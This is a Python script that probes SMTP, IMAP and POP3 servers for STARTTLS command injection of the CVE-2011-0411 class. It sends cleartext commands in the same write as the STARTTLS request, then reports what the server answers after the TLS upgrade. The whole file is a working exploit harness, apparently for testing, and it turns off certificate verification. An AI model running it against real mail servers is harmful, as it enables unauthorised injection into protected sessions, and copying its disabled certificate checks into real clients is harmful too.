#!/usr/bin/env python3
"""STARTTLS command injection (CVE-2011-0411 class): send STARTTLS/STLS and, in the same
write, cleartext commands an attacker could have injected; then upgrade to TLS and run the
given commands, printing every reply seen after the upgrade.

usage: starttls_inject.py HOST PORT smtp|imap|pop3 INJECTED [COMMAND ...]
INJECTED and COMMANDs may use \\r \\n \\x.. escapes; COMMANDs get CRLF appended. For IMAP
each COMMAND starts with its tag. Prints {"upgrade": [lines], "replies": [[lines], ...]} or
{"error": message, ...}.
"""
import json
import socket
import ssl
import sys


def unescape(s):
    return s.encode("latin-1").decode("unicode_escape").encode("latin-1")


class Lines:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def line(self):
        while b"\n" not in self.buf:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise EOFError("server closed the connection")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return line.rstrip(b"\r").decode("utf-8", "replace")

    def reply(self, proto, tag=None):
        lines = []
        while True:
            line = self.line()
            lines.append(line)
            if proto == "smtp" and (len(line) < 4 or line[3] != "-"):
                return lines
            if proto == "pop3":
                return lines
            if proto == "imap" and line.startswith(tag + " "):
                return lines


def main():
    host, port, proto, injected = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    commands = sys.argv[5:]
    sock = socket.create_connection((host, port), timeout=20)
    plain = Lines(sock)
    out = {}
    if proto == "smtp":
        plain.reply("smtp")
        sock.sendall(b"EHLO client.test\r\n")
        plain.reply("smtp")
        sock.sendall(b"STARTTLS\r\n" + unescape(injected))
        out["upgrade"] = plain.reply("smtp")
    elif proto == "imap":
        plain.line()
        sock.sendall(b"s1 STARTTLS\r\n" + unescape(injected))
        out["upgrade"] = plain.reply("imap", "s1")
    else:
        plain.line()
        sock.sendall(b"STLS\r\n" + unescape(injected))
        out["upgrade"] = plain.reply("pop3")
    # Anything the server sent in cleartext after its go-ahead would be left in plain.buf and
    # would break the handshake; report it.
    if plain.buf:
        out["error"] = "cleartext after the go-ahead: %r" % plain.buf
        print(json.dumps(out))
        return
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the test server uses a self-signed certificate
    try:
        tls = ctx.wrap_socket(sock, server_hostname="mail.example.test")
    except (ssl.SSLError, OSError) as e:
        out["error"] = "handshake: %s" % e
        print(json.dumps(out))
        return
    secure = Lines(tls)
    out["replies"] = []
    try:
        for command in commands:
            tls.sendall(unescape(command) + b"\r\n")
            tag = command.split(" ", 1)[0] if proto == "imap" else None
            out["replies"].append(secure.reply(proto, tag))
    except (EOFError, OSError) as e:
        out["error"] = str(e)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
